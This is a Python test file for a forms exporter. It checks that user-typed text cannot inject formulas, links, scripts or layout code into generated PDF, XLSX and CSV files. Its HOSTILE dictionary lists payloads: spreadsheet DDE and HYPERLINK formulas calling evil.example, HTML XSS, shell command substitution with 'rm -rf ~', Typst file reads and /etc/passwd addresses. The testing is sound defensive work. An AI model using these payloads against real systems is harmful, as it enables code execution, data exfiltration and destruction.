"""Whatever anybody typed: no form breaks, runs it, fetches anything, or lets it lay out the page."""

import csv
import io
import re
import zipfile
from dataclasses import replace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as some

from storage.forms.clean_text import LONGEST_CELL, clean_cell, clean_text
from storage.forms.csv_file import write_csv
from storage.forms.fonts import read_fonts
from storage.forms.pdf import write_pdf, write_picture
from storage.forms.xlsx_file import write_xlsx
from tests.storage.forms.made_cards import channel_card, observations, photo_bytes, visit_card, with_text
from tests.storage.forms.made_rows import in_columns
from tests.storage.forms.reading import pdf_of, sheets_of, words_of

HOSTILE = {
    "formula": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://evil.example/"&A1,"here")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus and minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "typst": '#{panic("run")} #import "@preview/cetz:0.3.0" #read("/etc/hosts") $x^2$ *b* _i_ `raw` @ref //',
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "shell": "$(touch /tmp/x) `id` ; rm -rf ~ | cat",
    "address": "http://evil.example/a.png internal:Sheet1!A1 file:///etc/passwd",
    "json": '{"a": "\\u0000", \'b\': NaN}',
    "right to left": "\u202eevil\u202c \u200f\u2066אבג عربي\u2069",
    "emoji": "👩‍🔧🏳️‍🌈 ok ☕️ 🇳🇱",
    "controls": "a\x00b\x01c\x0bd\x1be\x7ff\x85g\u2028h",
    "half characters": "\ud800 half \udfff \ufffe \uffff",
    "no end": "w" * 20_000,
    "long": "All of this was seen. " * 5_000,
    "other letters": "店舗 магазин κατάστημα דוכן ร้าน",
    "marks": "e" + "\u0301" * 500,
    "only pictographs": "😀😀",
    "only controls": "\x00\u200f",
    "excel escape": "_x003D_1+1 _x0000_",
    "blank": " ",
    "empty": "",
}
CARDS = {"visit": visit_card(), "channel": channel_card()}
PHOTO = photo_bytes(0, (200, 150))


@pytest.mark.parametrize("kind", CARDS)
@pytest.mark.parametrize("name", HOSTILE)
def test_no_text_breaks_a_page(name, kind):
    card = with_text(CARDS[kind], lambda _: HOSTILE[name])
    content = write_pdf(card, {line.photo_id: PHOTO for line in card.photos})
    assert len(pdf_of(content).pages) == (1 if kind == "visit" else 2)
    assert write_picture(card).startswith(b"\x89PNG")
    # Nothing in the file acts: no script, no link, no file within.
    acting = re.findall(rb"/(JavaScript|JS|Launch|URI|EmbeddedFile|OpenAction|AA)\b", content)
    assert acting == []


def test_what_was_typed_stands_on_the_page_as_it_was_typed():
    typed = 'A #{1+1} $x$ *b* _i_ <script> @ref "q" \\n end'
    card = replace(visit_card(), next_steps=(replace(visit_card().next_steps[0], words=typed),))
    assert typed in words_of(write_pdf(card, {})).replace("\u00a0", " ")


@pytest.mark.parametrize("name", HOSTILE)
def test_no_text_becomes_a_formula_or_a_link_in_a_workbook(name, tmp_path):
    file = tmp_path / "card.xlsx"
    card = with_text(channel_card(), lambda _: HOSTILE[name])
    rows = [with_text_in_row(row, HOSTILE[name]) for row in observations(3)]
    assert write_xlsx(card, in_columns(rows), file)
    held = [cell for sheet in sheets_of(file, formulas=True).values() for row in sheet for cell in row]
    ours = re.compile(r"=\(?[A-Z]+\d+[-/][A-Z]+\d+(\)\*100)?")
    with zipfile.ZipFile(file) as book:
        parts = {part: book.read(part).decode() for part in book.namelist()}
    formulas = [text for part in parts.values() for text in re.findall(r"<f>(.*?)</f>", part)]
    assert formulas
    assert [text for text in formulas if not ours.fullmatch(f"={text}")] == []
    assert [part for part in parts if "external" in part.lower() or "vba" in part.lower()] == []
    assert [part for part, text in parts.items() if "<hyperlink" in text] == []
    if HOSTILE[name].strip("\x00\u200f \t"):
        # So Excel writes an underscore that could begin an escape; whoever reads it takes it back.
        assert clean_cell(HOSTILE[name]) in [str(cell).replace("_x005F_", "_") for cell in held]


@pytest.mark.parametrize("name", HOSTILE)
def test_no_text_becomes_a_formula_in_a_csv_file(name, tmp_path):
    typed, to = HOSTILE[name], tmp_path / "rows.csv"
    write_csv(in_columns(with_text_in_row(row, typed) for row in observations(3)), to)
    rows = list(csv.DictReader(io.StringIO(to.read_bytes().decode(), newline=""), strict=True))
    assert len(rows) == 3
    for row in rows:
        assert row["note"].removeprefix("'") == clean_cell(typed)
        assert not row["note"].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert not row["statement"].startswith(("=", "+", "-", "@"))


def with_text_in_row(row, typed):
    return replace(row, brand=typed, channel=typed, statement=typed, note=typed, unit=typed, code=typed)


def test_a_number_is_never_guarded(tmp_path):
    to = tmp_path / "rows.csv"
    write_csv(in_columns(replace(row, value=-3.5) for row in observations(1)), to)
    (row,) = csv.DictReader(io.StringIO(to.read_bytes().decode()))
    assert row["value"] == "-3.5"


@settings(deadline=None, max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=some.text(some.characters(), max_size=300), longest=some.integers(5, 120))
def test_what_is_printed_has_a_shape_in_the_fonts_and_fits(text, longest):
    has = read_fonts().characters
    printed = clean_text(text, has, longest)
    assert len(printed.replace("\u200b", "")) <= longest
    assert {character for character in printed if ord(character) not in has} <= {"\u200b"}
    assert all(len(part) <= 24 for word in printed.split() for part in word.split("\u200b"))


@settings(deadline=None)
@given(text=some.text(some.characters()))
def test_every_cell_can_be_written(text):
    written = clean_cell(text)
    assert written.encode().decode() == written
    assert not re.search("[\x00-\x1f\ufffe\uffff]", written)


def test_a_cut_text_says_that_it_goes_on():
    assert clean_cell("a" * 100_000) == "a" * (LONGEST_CELL - 1) + "…"
    has = read_fonts().characters
    assert clean_text("Nobody greeted the customer", has, 20) == "Nobody greeted the…"
    assert clean_text("\x00" * 50_000 + "a", has, 20) in ("…", "?")


def test_a_lost_letter_is_seen_to_be_lost_and_a_pictograph_is_not_missed():
    has = read_fonts().characters
    assert clean_text("店 ok 😀 Ａ Ⅳ", has) == "? ok A IV"


def test_fonts_of_the_operators_own_bring_their_letters(data_folder):
    # Any font will do that has a letter ours has not; the test makes one by moving a shape of ours.
    from fontTools.ttLib import TTFont  # noqa: PLC0415

    ours = read_fonts()
    letter = 0x5E97
    assert letter not in ours.characters
    with TTFont(ours.files[0]) as font:
        for table in font["cmap"].tables:
            if table.isUnicode():
                table.cmap[letter] = table.cmap[ord("A")]
        for record in font["name"].names:
            if record.nameID in (1, 4, 6, 16):
                record.string = "Other Letters"
        (data_folder / "fonts").mkdir(parents=True)
        (data_folder / "fonts" / "broken.ttf").write_bytes(b"no font")
        font.save(data_folder / "fonts" / "other.ttf")
    assert letter in read_fonts().characters
    card = with_text(visit_card(), lambda text: text.replace("Harbour", chr(letter)))
    assert chr(letter) in words_of(write_pdf(card, {}))
